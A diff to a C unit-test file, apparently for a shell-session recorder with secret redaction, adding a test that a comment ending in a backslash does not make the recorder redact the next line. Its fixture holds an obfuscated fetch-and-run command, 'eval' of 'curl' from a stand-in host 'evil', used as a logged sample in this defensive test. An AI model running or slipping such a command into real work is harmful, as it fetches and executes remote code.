@@ -1487,6 +1487,51 @@ static void test_sink_spool_secret_after_a_continued_line(void)
 	cJSON_Delete(id);
 }
 
+/* A comment that ends in a backslash does not go on in the next line
+ * (bash: the comment ends at the newline): the next line is a command of
+ * its own, and a rule that matches the comment's end must not take it. */
+static void test_sink_spool_a_comment_ending_in_a_backslash_continues_nothing(void)
+{
+	char sub[96], err[128];
+	struct spool_opts so = { .dir = sub };
+	cJSON *id = ident("containerd://c1", "p");
+	cJSON *rules = cJSON_Parse("[{\"name\":\"aws\",\"pattern\":"
+				   "\"(?i)aws_secret_access_key\\\\s*[=:]\\\\s*\\\\S+\"}]");
+	static const char one[] = "# aws_secret_access_key=\\",
+			  two[] = "eval$IFS\"$(curl$IFS-s$IFS//evil)\"";
+	struct sink_entry a = { .kind = SINK_LINE,
+				.container = "containerd://c1",
+				.session = 7,
+				.pid = 9,
+				.tid = 9,
+				.ts = 1,
+				.text = one,
+				.text_len = sizeof(one) - 1 };
+	struct sink_entry b = a;
+	struct redact_set *rs = NULL;
+	struct spool *sp;
+	struct sink *sink;
+	cJSON *all;
+
+	b.ts = 2;
+	b.text = two;
+	b.text_len = sizeof(two) - 1;
+	snprintf(sub, sizeof(sub), "%s/comment", dir);
+	UNIT_CHECK(redact_compile(rules, &rs, err, sizeof(err)) == 0);
+	target = (struct sink_spool_target){ id, rs, true, true, true, false, NULL };
+	UNIT_CHECK(spool_open(&so, &sp) == 0);
+	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
+	UNIT_CHECK(sink_write(sink, &a) == 0 && sink_write(sink, &b) == 0);
+	all = records(sp);
+	UNIT_CHECK_STR(text_of(entry(all, 0, 1)), two);
+	cJSON_Delete(all);
+	sink_close(sink);
+	spool_close(sp);
+	redact_free(rs);
+	cJSON_Delete(rules);
+	cJSON_Delete(id);
+}
+
 /* sink_spool_attr_fn of the test: root 5 was opened by alice (decided),
  * root 6 is not decided yet ("6-1"). */
 static int attr_of(void *arg, const char *cid, const cJSON *id, uint32_t root,
@@ -1606,6 +1651,7 @@ int main(void)
 		UNIT_TEST(test_sink_spool_rule_that_cannot_finish_keeps_the_command),
 		UNIT_TEST(test_sink_spool_withheld_command_is_still_redacted),
 		UNIT_TEST(test_sink_spool_secret_after_a_continued_line),
+		UNIT_TEST(test_sink_spool_a_comment_ending_in_a_backslash_continues_nothing),
 		UNIT_TEST(test_sink_spool_export_carries_who_opened_the_session),
 	};
 	char cmd[128];
